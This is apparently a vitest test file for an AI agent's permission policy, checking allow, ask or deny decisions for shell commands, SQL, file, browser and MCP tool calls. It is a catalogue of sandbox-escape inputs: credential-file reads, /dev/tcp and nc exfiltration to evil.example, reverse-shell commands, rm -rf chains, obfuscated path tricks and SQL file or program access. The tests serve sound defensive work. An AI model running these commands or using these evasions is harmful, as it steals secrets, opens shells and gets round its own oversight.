// The policy's decision table: commands and SQL statements judged under broad allow rules, each
// with the decision and the rule that decided it. Every class of escape is here: hidden paths
// (variables, tilde, braces, globs, options), code-carrying commands, network reach, chains and
// substitutions, and SQL that writes while it looks like a read.
import { describe, expect, it } from 'vitest';
import { isInside, policySpec } from '../../../core/policy.js';
import { broad, ctx, judge, sh, sql } from './judge.js';

type Row = [input: string, decision: 'allow' | 'ask' | 'deny', rule: string];

const terminal: Row[] = [
  // Plain commands the broad rules allow.
  ['ls -la src', 'allow', 'allow-ls'],
  ['cat README.md', 'allow', 'allow-cat'],
  ['cat ./src/a.ts docs/b.md', 'allow', 'allow-cat'],
  ['echo hello world', 'allow', 'allow-echo'],
  ['grep -rn TODO src', 'allow', 'allow-grep'],
  ['git status', 'allow', 'allow-git'],
  ['git log --oneline -5', 'allow', 'allow-git'],
  ['git diff HEAD~1', 'allow', 'allow-git'],
  ['find . -name "*.ts"', 'allow', 'allow-find'],
  ["sed -n '1,5p' README.md", 'allow', 'allow-sed'],
  ["sed 's/a/b/g' in.txt", 'allow', 'allow-sed'],
  ['wc -l src/a.ts', 'allow', 'allow-wc'],
  ['cat "$HOME/../../work/ws/README.md"', 'allow', 'allow-cat'],
  ['cat "$PWD/README.md"', 'allow', 'allow-cat'],
  ['cat ~+/README.md', 'allow', 'allow-cat'],
  ['ls > /dev/null 2>&1', 'allow', 'allow-ls'],
  ['echo done > out.txt', 'allow', 'fs-all'],
  ['cat a.txt | grep x | wc -l', 'allow', 'allow-cat'],
  ['true && echo ok', 'allow', 'allow-true'],
  ['echo "a;b" \'c|d\'', 'allow', 'allow-echo'],
  ['python3 scripts/build.py', 'allow', 'allow-build'],
  ['cat README.md # a comment with $(id)', 'allow', 'allow-cat'],
  ['cd src && ls', 'allow', 'allow-cd'],
  ['head -n 5 README.md', 'allow', 'allow-head'],
  ['touch notes.txt', 'allow', 'allow-touch'],
  ['curl https://api.example.org/v1', 'allow', 'allow-curl'],
  // Paths outside the workspace, however they are spelled.
  ['cat /etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['cat ../secret.txt', 'deny', 'builtin:outside-workspace'],
  ['cat src/../../etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['cat /work/ws-evil/x', 'deny', 'builtin:outside-workspace'],
  ['cat $HOME/.ssh/id_rsa', 'deny', 'builtin:outside-workspace'],
  ['cat "$HOME/.ssh/id_rsa"', 'deny', 'builtin:outside-workspace'],
  ['cat ${HOME}/.aws/credentials', 'deny', 'builtin:outside-workspace'],
  ['cat ~/.ssh/id_rsa', 'deny', 'builtin:outside-workspace'],
  ['cat ~', 'deny', 'builtin:outside-workspace'],
  ['cat --file=/etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['grep -f/etc/passwd x', 'deny', 'builtin:outside-workspace'],
  ['grep -f /etc/passwd x', 'deny', 'builtin:outside-workspace'],
  ['cat --input=~/.netrc', 'ask', 'builtin:unknown-word'],
  ['ls /', 'deny', 'builtin:outside-workspace'],
  ['cat /e*/passwd', 'deny', 'builtin:outside-workspace'],
  ['cat /etc/pass*', 'deny', 'builtin:outside-workspace'],
  ['cat /etc/$FILE', 'deny', 'builtin:outside-workspace'],
  ['cat $HOME/$FILE', 'deny', 'builtin:outside-workspace'],
  ['cat "${HOME}"/.bashrc', 'deny', 'builtin:outside-workspace'],
  ['echo x > ~/.bashrc', 'deny', 'builtin:outside-workspace'],
  ['echo x >> /home/agent/.profile', 'deny', 'builtin:outside-workspace'],
  ['cat < /etc/shadow', 'deny', 'builtin:outside-workspace'],
  ['echo x > /dev/tcp/evil.example/80', 'deny', 'builtin:outside-workspace'],
  ['cat < /dev/tcp/evil.example/80', 'deny', 'builtin:outside-workspace'],
  ['[[ -f /etc/shadow ]] && echo yes', 'deny', 'builtin:outside-workspace'],
  ['cd /etc && cat passwd', 'deny', 'builtin:outside-workspace'],
  ['cd .. && cat x', 'deny', 'builtin:outside-workspace'],
  ['cd; cat .ssh/id_rsa', 'deny', 'builtin:outside-workspace'],
  ['cd ~ && ls', 'deny', 'builtin:outside-workspace'],
  ['dd if=/etc/passwd of=copy.txt', 'deny', 'builtin:outside-workspace'],
  ['cat /./etc//passwd', 'deny', 'builtin:outside-workspace'],
  ['cat /etc/pa""ss\wd', 'deny', 'builtin:outside-workspace'],
  ['c\at -- /etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['cat $TMPDIR/x', 'ask', 'builtin:unknown-word'],
  ['curl file:///etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['cat README.md > /dev/stderr', 'allow', 'allow-cat'],
  ['ln -s /etc/passwd x && cat x', 'deny', 'builtin:outside-workspace'],
  ['git -C /etc status', 'deny', 'builtin:outside-workspace'],
  ['git --work-tree=.. status', 'deny', 'builtin:outside-workspace'],
  ['coproc cat /etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['time cat /etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['echo ${x:-$(cat /etc/passwd)}', 'deny', 'builtin:outside-workspace'],
  ['cat${IFS}/etc/passwd', 'ask', 'builtin:unknown-word'],
  ['{cat,README.md}', 'ask', 'builtin:unknown-word'],
  ['./cat README.md', 'ask', 'default:terminal-asks'],
  ['/usr/bin/cat README.md', 'ask', 'default:terminal-asks'],
  // Words known only at run time never satisfy an allow rule.
  ['cat $FILE', 'ask', 'builtin:unknown-word'],
  ['cat "$UNSET_VAR"', 'ask', 'builtin:unknown-word'],
  ['cat {a,b}.txt', 'ask', 'builtin:unknown-word'],
  ['cat {/etc/passwd,x}', 'deny', 'builtin:outside-workspace'],
  ['cat *.md', 'ask', 'builtin:unknown-word'],
  ['cat $(echo README.md)', 'ask', 'builtin:unknown-word'],
  ['cat `echo README.md`', 'ask', 'builtin:unknown-word'],
  ['cat $(echo /etc/passwd)', 'deny', 'builtin:outside-workspace'],
  ['cat <(ls)', 'ask', 'builtin:unknown-word'],
  ['cat $((1+2)).txt', 'ask', 'builtin:unknown-word'],
  ["cat $'\\x2fetc\\x2fpasswd'", 'ask', 'builtin:unknown-word'],
  ['cat ~root/.ssh/id_rsa', 'ask', 'builtin:unknown-word'],
  ['cat ~-/x', 'ask', 'builtin:unknown-word'],
  ['cat ${HOME:-/tmp}/x', 'ask', 'builtin:unknown-word'],
  ['cat ${!ref}', 'ask', 'builtin:unknown-word'],
  ['cat $SPACED', 'ask', 'builtin:unknown-word'],
  ['HOME=/etc; cat $HOME/passwd', 'ask', 'builtin:unknown-word'],
  ['export HOME=/etc; cat ~/passwd', 'deny', 'builtin:outside-workspace'],
  ['read HOME < x; cat $HOME/passwd', 'ask', 'builtin:unknown-word'],
  ['for HOME in /etc; do cat $HOME/passwd; done', 'ask', 'builtin:unknown-word'],
  ['$CMD /etc/passwd', 'deny', 'builtin:outside-workspace'],
  ['$CMD README.md', 'ask', 'builtin:unknown-word'],
  ['"$(echo rm)" -rf src', 'ask', 'builtin:unknown-word'],
  ['echo x > $OUT', 'ask', 'builtin:unknown-word'],
  ['cd - && ls', 'ask', 'builtin:unknown-word'],
  ['cat @(a|b).txt', 'ask', 'builtin:unknown-word'],
  // Code-carrying commands: a prefix rule cannot allow them.
  ['python3 -c \'import os; os.system("id")\'', 'ask', 'builtin:code-carrying'],
  ['python3 scripts/other.py', 'ask', 'builtin:code-carrying'],
  ['python3.12 -c 1', 'ask', 'builtin:code-carrying'],
  ['node -e \'require("fs")\'', 'ask', 'builtin:code-carrying'],
  ["perl -e 'print 1'", 'ask', 'builtin:code-carrying'],
  ["ruby -e 'puts 1'", 'ask', 'builtin:code-carrying'],
  ['awk \'BEGIN { system("id") }\'', 'ask', 'builtin:code-carrying'],
  ['find . -exec rm {} \\;', 'ask', 'builtin:code-carrying'],
  ['find . -name x -execdir sh -c id \\;', 'ask', 'builtin:code-carrying'],
  ['ls | xargs rm', 'ask', 'builtin:code-carrying'],
  ["sed -n '1e id' x", 'ask', 'builtin:code-carrying'],
  ["sed 's/a/b/w out' x", 'ask', 'builtin:code-carrying'],
  ["sed -e 's/a/b/e' x", 'ask', 'builtin:code-carrying'],
  ['sed -f script.sed x', 'ask', 'builtin:code-carrying'],
  ['git -c core.pager=id log', 'ask', 'builtin:code-carrying'],
  ['git -c core.sshCommand=id fetch', 'ask', 'builtin:code-carrying'],
  ['git config core.fsmonitor id', 'ask', 'builtin:code-carrying'],
  ['git rebase -x id HEAD~2', 'ask', 'builtin:code-carrying'],
  ['git frobnicate', 'ask', 'builtin:code-carrying'],
  ['env ls', 'ask', 'builtin:code-carrying'],
  ['env -S "ls -la"', 'ask', 'builtin:code-carrying'],
  ['sudo ls', 'ask', 'builtin:code-carrying'],
  ['sudo -u root cat README.md', 'ask', 'builtin:code-carrying'],
  ['timeout 5 ls', 'ask', 'builtin:code-carrying'],
  ['nice -n 10 cat README.md', 'ask', 'builtin:code-carrying'],
  ['command ls', 'ask', 'builtin:code-carrying'],
  ['exec ls', 'ask', 'builtin:code-carrying'],
  ['bash -c "ls"', 'ask', 'builtin:code-carrying'],
  ['bash script.sh', 'ask', 'builtin:code-carrying'],
  ['sh < script.sh', 'ask', 'builtin:code-carrying'],
  ['eval ls', 'ask', 'builtin:code-carrying'],
  ['source ./env.sh', 'ask', 'builtin:code-carrying'],
  ['. ./env.sh', 'ask', 'builtin:code-carrying'],
  ['alias ls=id', 'ask', 'builtin:code-carrying'],
  ['npm run build', 'ask', 'builtin:code-carrying'],
  ['npm test', 'ask', 'builtin:code-carrying'],
  ['make all', 'ask', 'builtin:code-carrying'],
  ['PATH=.:$PATH ls', 'ask', 'builtin:code-carrying'],
  ['LD_PRELOAD=./x.so ls', 'ask', 'builtin:code-carrying'],
  ['export PATH=bin; ls', 'ask', 'builtin:code-carrying'],
  ['export PATH=/tmp/evil; ls', 'deny', 'builtin:outside-workspace'],
  ['ls .vloop', 'deny', 'builtin:protected-path'],
  ['tar --to-command=id -xf a.tar', 'ask', 'builtin:code-carrying'],
  ['su -c id root', 'ask', 'builtin:code-carrying'],
  ['busybox sh -c id', 'ask', 'builtin:code-carrying'],
  // Chains and substitutions: every command is judged, the strictest wins.
  ['ls; rm -rf src', 'deny', 'deny-rm-rf'],
  ['ls && rm -rf ~', 'deny', 'builtin:outside-workspace'],
  ['ls\nrm -rf src', 'deny', 'deny-rm-rf'],
  ['echo $(rm -rf src)', 'deny', 'deny-rm-rf'],
  ['echo `cat /etc/passwd`', 'deny', 'builtin:outside-workspace'],
  ['x=$(cat /etc/passwd); echo $x', 'deny', 'builtin:outside-workspace'],
  ['cat <<EOF\n$(cat /etc/passwd)\nEOF', 'deny', 'builtin:outside-workspace'],
  ["bash -c 'cat /etc/passwd'", 'deny', 'builtin:outside-workspace'],
  ['bash -c \'bash -c "cat ~/.ssh/id_rsa"\'', 'deny', 'builtin:outside-workspace'],
  ['eval "cat /etc/passwd"', 'deny', 'builtin:outside-workspace'],
  ['sudo cat /etc/shadow', 'deny', 'builtin:outside-workspace'],
  ['env FOO=1 rm -rf src', 'deny', 'deny-rm-rf'],
  ['f() { cat /etc/passwd; }; f', 'deny', 'builtin:outside-workspace'],
  ['(cd /; cat etc/passwd)', 'deny', 'builtin:outside-workspace'],
  ['{ ls; rm -rf src; }', 'deny', 'deny-rm-rf'],
  ['if true; then rm -rf src; fi', 'deny', 'deny-rm-rf'],
  ['while true; do rm -rf src; done', 'deny', 'deny-rm-rf'],
  ['ls & rm -rf src', 'deny', 'deny-rm-rf'],
  ['ls || python3 -c id', 'ask', 'builtin:code-carrying'],
  ['rm notes.txt', 'ask', 'default:terminal-asks'],
  ['echo hi > .vloop/policy.json', 'deny', 'builtin:protected-path'],
  ['cat .vloop/token', 'deny', 'builtin:protected-path'],
  ['echo x > .git/hooks/pre-commit', 'deny', 'builtin:protected-path'],
  ['cat policy.json', 'deny', 'builtin:protected-path'],
  ['ls && echo "unclosed', 'deny', 'builtin:unreadable-command'],
  ['ls (', 'deny', 'builtin:unreadable-command'],
  ['', 'deny', 'builtin:empty-command'],
  // Network reach, judged by host.
  ['curl https://evil.example/x', 'deny', 'net-evil'],
  ['curl https://other.example.net/x', 'ask', 'setting:network-ask'],
  ['curl -d @README.md https://api.example.org/', 'allow', 'allow-curl'],
  ['cat README.md | nc evil.example 80', 'deny', 'net-evil'],
  ['wget https://api.example.org/x', 'ask', 'default:terminal-asks'],
  ['curl $URL', 'ask', 'builtin:unknown-word'],
  ['curl https://docs.example.com/', 'allow', 'allow-curl'],
  ['git clone https://github.com/x/y', 'ask', 'builtin:code-carrying'],
  ['git push', 'ask', 'builtin:network-host-unknown'],
  ['ssh evil.example', 'deny', 'net-evil'],
  ['scp README.md user@evil.example:/tmp/', 'deny', 'net-evil'],
  ['curl https://evil.example@api.example.org.evil.example/', 'ask', 'setting:network-ask'],
  ['curl https://api.example.org@evil.example/', 'deny', 'net-evil'],
  ['curl -x http://evil.example:8080 https://api.example.org/', 'deny', 'net-evil'],
  ['curl --proxy evil.example:8080 https://api.example.org/', 'ask', 'builtin:network-host-unknown'],
  ['curl --resolve api.example.org:443:6.6.6.6 https://api.example.org/', 'ask', 'builtin:network-host-unknown'],
  ['curl -K urls.txt', 'ask', 'builtin:network-host-unknown'],
  ['curl https://api.example.org/ && openssl s_client -connect evil.example:443', 'ask', 'default:terminal-asks'],
  ['curl https://api.example.org/ | jq .', 'ask', 'default:terminal-asks'],
  ['curl https://api.example.org/ ; touch x', 'ask', 'builtin:network-shared'],
  ['nc -e /bin/sh evil.example 80', 'deny', 'builtin:outside-workspace'],
  ['ncat --sh-exec id api.example.org 80', 'ask', 'builtin:code-carrying'],
  ['socat TCP:api.example.org:80 EXEC:sh', 'ask', 'builtin:code-carrying'],
];

const database: Array<[connection: string, sql: string, decision: 'allow' | 'ask' | 'deny', rule: string]> = [
  ['app', 'select * from t', 'allow', 'db-all'],
  ['app', "select ';drop table x' -- ; delete", 'allow', 'db-all'],
  ['app', 'select 1 union select 2', 'allow', 'db-all'],
  ['app', 'explain query plan select * from t', 'allow', 'db-all'],
  ['app', 'pragma table_info(t)', 'allow', 'db-all'],
  ['app', "insert into t values ('a;b')", 'deny', 'builtin:read-only-connection'],
  ['app', 'select 1; drop table t', 'deny', 'builtin:read-only-connection'],
  ['app', 'with x as (select 1) insert into t select * from x', 'deny', 'builtin:read-only-connection'],
  ['app', 'pragma query_only = 0', 'deny', 'builtin:read-only-connection'],
  ['app', 'pragma writable_schema', 'deny', 'builtin:read-only-connection'],
  ['app', "attach database '/tmp/x.db' as x", 'deny', 'builtin:read-only-connection'],
  ['app', "vacuum into '/tmp/copy.db'", 'deny', 'builtin:read-only-connection'],
  ['app', "select load_extension('/tmp/evil.so')", 'deny', 'builtin:read-only-connection'],
  ['app', "select writefile('/tmp/x', 'y')", 'deny', 'builtin:read-only-connection'],
  ['app', 'replace into t values (1)', 'deny', 'builtin:read-only-connection'],
  ['app', 'begin; commit', 'deny', 'builtin:read-only-connection'],
  ['app', 'create trigger tr after insert on t begin delete from u; end', 'deny', 'builtin:read-only-connection'],
  ['app', 'selec * from t', 'ask', 'builtin:sql-unparsed'],
  ['app', '', 'ask', 'builtin:sql-unparsed'],
  ['scratch', 'update t set a = 1', 'allow', 'db-all'],
  ['scratch', 'drop table t', 'allow', 'db-all'],
  // A write connection is still one database: another file, a program or a library is never reached.
  ['scratch', "attach database '.vloop/harness.db' as h", 'deny', 'builtin:outside-connection'],
  ['scratch', "vacuum into '.vloop/copy.db'", 'deny', 'builtin:outside-connection'],
  ['scratch', "select load_extension('./x.so')", 'deny', 'builtin:outside-connection'],
  ['scratch', "select writefile('x', 'y')", 'deny', 'builtin:outside-connection'],
  ['pg', "copy t from program 'id'", 'deny', 'builtin:outside-connection'],
  ['pg', "copy t to '/tmp/x'", 'deny', 'builtin:outside-connection'],
  ['pg', "load 'evil'", 'deny', 'builtin:outside-connection'],
  ['pg', "select dblink_exec('host=evil', 'drop table t')", 'deny', 'builtin:outside-connection'],
  ['pg', 'copy t to stdout', 'allow', 'db-all'],
  ['pg', 'select * from t where a = $$x;y$$', 'allow', 'db-all'],
  ['pg', 'show search_path', 'allow', 'db-all'],
  ['pg', 'explain select * from t', 'allow', 'db-all'],
  ['pgro', 'select count(*) from t', 'allow', 'db-all'],
  ['pgro', 'explain analyze delete from t', 'deny', 'builtin:read-only-connection'],
  ['pgro', "select pg_read_file('/etc/passwd')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select pg_catalog.pg_read_binary_file('/etc/passwd')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select lo_export(1234, '/tmp/x')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select lo_import('/etc/passwd')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select set_config('default_transaction_read_only', 'off', false)", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select dblink_exec('host=evil', 'drop table t')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select query_to_xml('delete from t', true, true, '')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select nextval('s')", 'deny', 'builtin:read-only-connection'],
  ['pgro', "select * from pg_ls_dir('/')", 'deny', 'builtin:read-only-connection'],
  ['pgro', 'with x as (delete from t returning *) select * from x', 'deny', 'builtin:read-only-connection'],
  ['pgro', 'select * into t2 from t', 'deny', 'builtin:read-only-connection'],
  ['pgro', 'select * from t for update', 'deny', 'builtin:read-only-connection'],
  ['pgro', 'set default_transaction_read_only = off', 'deny', 'builtin:read-only-connection'],
  ['pgro', 'commit; delete from t', 'deny', 'builtin:read-only-connection'],
  ['pgro', "copy t to program 'id'", 'deny', 'builtin:read-only-connection'],
  ['pgro', 'do $$ begin perform 1; end $$', 'deny', 'builtin:read-only-connection'],
  ['pgro', 'call p()', 'deny', 'builtin:read-only-connection'],
  ['pgro', 'select 1 frm t', 'ask', 'builtin:sql-unparsed'],
  ['pgro', 'prepare q as delete from t; execute q', 'deny', 'builtin:read-only-connection'],
  ['prod', 'select 1', 'deny', 'builtin:unknown-connection'],
];

describe('the decision table (broad allow rules)', () => {
  it('has at least 150 rows across commands and SQL', () => {
    expect(terminal.length + database.length).toBeGreaterThanOrEqual(150);
  });
  it.each(terminal)('%j -> %s by %s', async (command, decision, rule) => {
    expect(await sh(command)).toMatchObject({ decision, rule });
  });
  it.each(database)('%s: %j -> %s by %s', async (connection, text, decision, rule) => {
    expect(await sql(connection, text)).toMatchObject({ decision, rule });
  });
});

describe('the stricter policy without the OS sandbox', () => {
  const bare = { ...ctx, sandboxed: false };
  it.each([
    ['touch notes.txt', 'ask', 'builtin:no-sandbox'],
    ['echo x > out.txt', 'ask', 'builtin:no-sandbox'],
    ['curl https://api.example.org/v1', 'ask', 'builtin:no-sandbox'],
    ['cat README.md | grep x', 'allow', 'allow-cat'],
    ['ls -la', 'allow', 'allow-ls'],
    ['cat /etc/passwd', 'deny', 'builtin:outside-workspace'],
  ] as const)('%j -> %s by %s', async (command, decision, rule) => {
    expect(await sh(command, broad, bare)).toMatchObject({ decision, rule });
  });
  // With the harness directory inside the workspace, only the sandbox keeps a recursive read out of it.
  it.each(['grep -ra . .', 'ls -R', 'cat README.md'])('%j asks when .vloop lies in the workspace', async (command) => {
    expect(await sh(command, broad, { ...bare, hiddenPaths: ['/work/ws/.vloop'] })).toMatchObject({
      decision: 'ask',
      rule: 'builtin:no-sandbox',
    });
  });
});

describe('network setting', () => {
  it('follows deny | ask | allow when no rule names the host, and lets a sandboxed command use the network only when allowed', async () => {
    const withSetting = (network: 'deny' | 'ask' | 'allow') => policySpec.parse({ ...broad, network });
    expect(await sh('curl https://other.example.net/', withSetting('deny'))).toMatchObject({
      decision: 'deny',
      rule: 'setting:network-deny',
      network: 'deny',
    });
    expect(await sh('curl https://other.example.net/', withSetting('allow'))).toMatchObject({
      decision: 'allow',
      rule: 'allow-curl',
      network: 'allow',
    });
    expect(await sh('curl https://api.example.org/', withSetting('ask'))).toMatchObject({
      decision: 'allow',
      network: 'allow',
    });
    expect(await sh('ls', withSetting('ask'))).not.toHaveProperty('network');
  });
});

describe('filesystem and browser', () => {
  it.each([
    ['read', 'src/a.ts', 'allow', 'fs-all'],
    ['write', 'src/a.ts', 'allow', 'fs-all'],
    ['read', '../outside.txt', 'deny', 'builtin:outside-workspace'],
    ['read', '~/.ssh/id_rsa', 'deny', 'builtin:outside-workspace'],
    ['write', '.vloop/token', 'deny', 'builtin:protected-path'],
    ['write', '.git/config', 'deny', 'builtin:protected-path'],
    ['write', '.git/hooks/post-checkout', 'deny', 'builtin:protected-path'],
  ] as const)('%s %s -> %s by %s', async (op, path, decision, rule) => {
    expect(await judge({ tool: 'filesystem', args: { op, path } })).toMatchObject({ decision, rule });
  });
  it('opens only hosts the policy allows, over http(s)', async () => {
    expect(await judge({ tool: 'browser', args: { op: 'open', url: 'https://docs.example.com/a' } })).toMatchObject({
      decision: 'allow',
      rule: 'browse-docs',
    });
    expect(await judge({ tool: 'browser', args: { op: 'open', url: 'https://evil.example/x' } })).toMatchObject({
      decision: 'deny',
      rule: 'default:host-not-allowed',
    });
    expect(await judge({ tool: 'browser', args: { op: 'open', url: 'file:///etc/passwd' } })).toMatchObject({
      decision: 'deny',
      rule: 'builtin:scheme',
    });
  });
  it('judges the real path when the registry supplies it (a symlink pointing out)', async () => {
    const real = (p: string) =>
      p === '/work/ws/link' ? '/etc' : p.startsWith('/work/ws/link/') ? `/etc/${p.slice('/work/ws/link/'.length)}` : p;
    expect(
      await judge({ tool: 'filesystem', args: { op: 'read', path: 'link/passwd' } }, broad, { ...ctx, realpath: real }),
    ).toMatchObject({ decision: 'deny', rule: 'builtin:outside-workspace' });
    expect(await sh('cat link/passwd', broad, { ...ctx, realpath: real })).toMatchObject({
      decision: 'deny',
      rule: 'builtin:outside-workspace',
    });
    expect(isInside('/work/ws', '/work/ws')).toBe(true);
    expect(isInside('/work/ws', '/work/wsx')).toBe(false);
  });
});

describe('MCP tool calls', () => {
  const withServers = policySpec.parse({
    ...broad,
    rules: [
      ...broad.rules,
      { id: 'mcp-read', tool: 'mcp:fs/read_*', action: 'allow' },
      { id: 'mcp-issues', tool: 'mcp:github/create_issue', action: 'allow', match: { arguments: { repo: 'acme/*' } } },
      { id: 'mcp-no-delete', tool: 'mcp:*/delete_*', action: 'deny' },
    ],
    mcpServers: {
      fs: { transport: 'stdio', command: 'mcp-server-filesystem' },
      github: { transport: 'http', url: 'https://mcp.example.org/', pathArguments: false },
    },
  });
  it.each([
    ['mcp:fs/read_text_file', { path: 'notes.txt' }, 'allow', 'mcp-read'],
    ['mcp:fs/read_text_file', { path: '/etc/passwd' }, 'deny', 'builtin:outside-workspace'],
    ['mcp:fs/read_text_file', { path: '../outside' }, 'deny', 'builtin:outside-workspace'],
    ['mcp:fs/read_multiple_files', { paths: ['a.txt', '~/.ssh/id_rsa'] }, 'deny', 'builtin:outside-workspace'],
    ['mcp:fs/read_text_file', { path: 'file:///etc/shadow' }, 'deny', 'builtin:outside-workspace'],
    ['mcp:fs/write_file', { path: '.vloop/token', content: 'x' }, 'deny', 'builtin:protected-path'],
    ['mcp:fs/write_file', { path: 'out.txt', content: 'x' }, 'ask', 'default:mcp-asks'],
    ['mcp:fs/delete_file', { path: 'out.txt' }, 'deny', 'mcp-no-delete'],
    ['mcp:github/create_issue', { repo: 'acme/web', title: '/not/a/path' }, 'allow', 'mcp-issues'],
    ['mcp:github/create_issue', { repo: 'evil/web', title: 'x' }, 'ask', 'default:mcp-asks'],
    ['mcp:nowhere/tool', {}, 'deny', 'builtin:unknown-mcp-server'],
  ] as const)('%s %j -> %s by %s', async (tool, args, decision, rule) => {
    expect(await judge({ tool, args: { ...args } }, withServers)).toMatchObject({ decision, rule });
  });
});
